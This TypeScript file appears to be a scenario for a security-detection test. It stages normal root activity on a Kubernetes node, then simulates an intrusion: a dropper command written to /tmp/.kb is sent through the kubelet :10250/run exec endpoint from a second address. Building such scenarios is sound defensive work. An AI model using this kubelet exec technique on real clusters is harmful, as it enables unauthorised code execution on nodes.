// Her session is open, she pulls an image by hand; it was not her.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { kubelet } from '../../products.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  const key = dress.key('owner', 'wang@laptop')
  dress.trust('root', key)
  dress.logins({ days: 20, guesses: 40, friends: [{ user: 'root', address: '198.51.100.20', key: key.fingerprint, hours: [9, 15] }] })
  dress.toy(kubelet)
}

export async function plant(stage: Stage): Promise<void> {
  await stage.session('198.51.100.20', 'root', { key: 'owner' }, [
    'systemctl status kubelet --no-pager | head -3',
    'docker pull nginx:1.27 || true',
    'df -h',
  ])
  const line = dropper(stage, { path: '/tmp/.kb/kb', cron: false })
  stage.mark('occurrence')
  await stage.http('203.0.113.62', ':10250/run/default/web-7d9c/web', `cmd=${encodeURIComponent(line)}`)
}
